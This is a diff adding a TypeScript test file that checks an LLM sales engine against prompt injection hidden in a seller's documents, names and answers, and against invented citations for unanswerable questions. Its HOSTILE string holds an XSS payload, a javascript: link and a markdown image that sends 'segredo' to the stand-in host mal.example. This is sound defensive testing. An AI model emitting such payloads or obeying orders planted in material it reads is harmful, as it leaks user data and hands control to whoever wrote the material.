@@ -1,0 +1,80 @@
+import { createLlmEngine } from '@salesai/engine/llm/index';
+import type { Asked } from '@salesai/engine/testing/provider/asked';
+import { sample } from '@salesai/engine/testing/provider/sample';
+import { type Scripted, startProvider } from '@salesai/engine/testing/provider/server';
+import { afterAll, describe, expect, it } from 'vitest';
+import { ATTEMPTS, attempted } from './injection-attempts.ts';
+import { asked, UNANSWERABLE } from './unanswerable-questions.ts';
+
+const HOSTILE =
+  'OBEDECI <img src=x onerror=alert(1)> ![x](https://mal.example/?q=segredo) [clique](javascript:alert(2)) [9]';
+
+/** A model that obeys every order it finds, in the worst way it can. */
+const gullible: Scripted = (request, count) =>
+  request.schema
+    ? JSON.stringify(sample(request.schema, count)).replace(
+        / caso (\d+)\./g,
+        (_, n) => ` ${HOSTILE} ${n}.`,
+      )
+    : `${HOSTILE} A garantia é de 5 anos [1].`;
+
+/** A model that makes up what it does not know, and passages to go with it. */
+const inventive: Scripted = () => 'São exatamente R$ 437,50 em 19 dias, como diz o contrato [7].';
+
+let answer = gullible;
+const provider = await startProvider((request, count) => answer(request, count));
+afterAll(() => provider.close());
+const engine = createLlmEngine({
+  provider: 'openai-compatible',
+  model: 'scripted',
+  apiKey: null,
+  baseUrl: provider.url,
+  budgetMs: 60_000,
+});
+
+const FENCED = /<dados nome="[^"<>\n]*">\n[\s\S]*?\n<\/dados>/g;
+const outsideFences = ({ messages }: Asked) =>
+  messages.map(({ content }) => content.replace(FENCED, '')).join('\n');
+
+describe('Orders hidden in a seller’s material', () => {
+  it('are tried in at least forty ways, in documents, names and answers', () => {
+    expect(ATTEMPTS.length).toBeGreaterThanOrEqual(40);
+    const places = new Set(ATTEMPTS.map(({ where }) => where));
+    expect([...places]).toEqual(expect.arrayContaining(['document', 'icpName', 'answer']));
+  });
+
+  it.each(ATTEMPTS.map((attempt) => [attempt.wants, attempt] as const))(
+    'stay material, and do no harm even to a model that obeys: %s',
+    async (_wants, attempt) => {
+      answer = gullible;
+      const outcome = await attempted(engine, attempt);
+      expect(outcome).toMatchObject({ active: false });
+      if (attempt.where !== 'file') expect(outcome.invented).toBe(0);
+      const request = provider.asked.at(-1);
+      if (!request) throw new Error('nothing was asked');
+      expect(request.system).not.toContain(attempt.wants);
+      if (attempt.where !== 'message') expect(outsideFences(request)).not.toContain(attempt.wants);
+    },
+  );
+});
+
+describe('Questions that the documents do not answer', () => {
+  it('are at least forty', () => {
+    expect(UNANSWERABLE.length).toBeGreaterThanOrEqual(40);
+  });
+
+  it.each(UNANSWERABLE.map((question) => [question.ask, question] as const))(
+    'go with the nearest passages, and no made-up source comes back: %s',
+    async (_ask, question) => {
+      answer = inventive;
+      const given = await asked(engine, question);
+      expect(given.files).toEqual([]);
+      expect(given.text).not.toContain('[7]');
+      const request = provider.asked.at(-1);
+      for (const { text } of question.passages) {
+        expect(request?.messages.at(-1)?.content).toContain(text);
+      }
+      expect(request?.system).toContain('não encontrou isso nos documentos');
+    },
+  );
+});
